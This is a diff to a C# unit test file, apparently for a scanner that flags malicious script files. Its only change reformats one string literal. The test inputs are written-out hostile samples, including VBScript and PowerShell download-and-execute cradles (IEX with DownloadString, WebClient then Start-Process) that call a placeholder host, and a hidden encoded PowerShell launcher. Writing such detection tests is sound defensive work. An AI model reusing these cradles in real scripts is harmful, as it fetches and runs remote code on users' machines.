@@ -10,7 +10,8 @@ public sealed class ScriptFileTests
     [InlineData("var s = new ActiveXObject('WScript.Shell'); s.Run('calc');", "a.js")]
     [InlineData("(function(){ var a = WScript.CreateObject(\"Shell.Application\"); a.ShellExecute('cmd.exe'); })();", "a.jse")]
     [InlineData("On Error Resume Next\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\", 0", "a.vbs")]
-    [InlineData("Dim x\r\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", \"http://a.example/\", False\r\nCreateObject(\"WScript.Shell\").Run y", "b.vbs")]
+    [InlineData("Dim x\r\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", \"http://a.example/\", "
+        + "False\r\nCreateObject(\"WScript.Shell\").Run y", "b.vbs")]
     [InlineData("$c = New-Object Net.WebClient\r\n$c.DownloadFile('http://a.example/x', 'x')\r\nStart-Process x", "a.ps1")]
     [InlineData("IEX(New-Object Net.WebClient).DownloadString('http://a.example/')", "b.ps1")]
     [InlineData("@echo off\r\npowershell -w hidden -enc SQBFAFgA", "a.bat")]
